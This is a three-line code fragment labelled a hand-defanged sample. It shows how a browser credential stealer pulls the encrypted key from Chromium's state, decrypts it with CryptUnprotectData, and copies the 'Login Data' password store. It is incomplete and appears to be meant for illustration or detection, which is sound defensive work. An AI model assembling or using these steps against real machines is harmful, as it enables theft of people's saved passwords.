# Defanged sample: nothing here is reached or run; defanged by hand.
key = state['os_crypt']['encrypted_key']
plain = CryptUnprotectData(key)
copy(profile + '/Login Data')
